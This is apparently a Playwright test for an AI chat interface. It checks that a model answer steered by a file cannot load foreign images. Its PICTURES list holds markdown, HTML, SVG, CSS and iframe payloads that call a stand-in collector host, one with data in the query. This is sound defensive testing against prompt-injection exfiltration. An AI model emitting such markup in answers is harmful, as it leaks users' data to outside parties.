"""An answer that was steered by a file shows itself, and calls nobody."""

from playwright.sync_api import expect

from tests.journeys.person import Person
from tests.wire_server.server import WireServer
from tests.wire_server.steps import Text

PICTURES = (
    "![x](https://collector.invalid/p.png?d=abc)",
    "<img src=https://collector.invalid/q.png>",
    "![b][a]\n\n[a]: https://collector.invalid/r.png",
    "[![x](https://collector.invalid/s.png)](https://collector.invalid/)",
    "<svg><image href='https://collector.invalid/t.png'/></svg>",
    "<div style='background:url(https://collector.invalid/u.png)'>u</div>",
    "<link rel=stylesheet href=https://collector.invalid/v.css>",
    "<iframe src=https://collector.invalid/w></iframe>",
    "![y](//collector.invalid/y.png)",
)


def test_foreign_pictures_in_an_answer_cause_no_request(person: Person, wire_server: WireServer) -> None:
    """PRM-04: markdown, HTML and by reference, while it streams and when it is opened again."""
    wire_server.script("openai", [Text(f"{one}\n\n") for one in (*PICTURES, "The end.")])
    person.open()
    answer = person.ask("summarise the file")
    for _ in range(2):
        expect(answer).to_contain_text("The end.")
        foreign = answer.locator('img[src*="collector"], image, iframe, link, [style*="collector"]')
        expect(foreign).to_have_count(0)
        person.page.wait_for_load_state("networkidle")
        person.page.reload()
        answer = person.answers.last
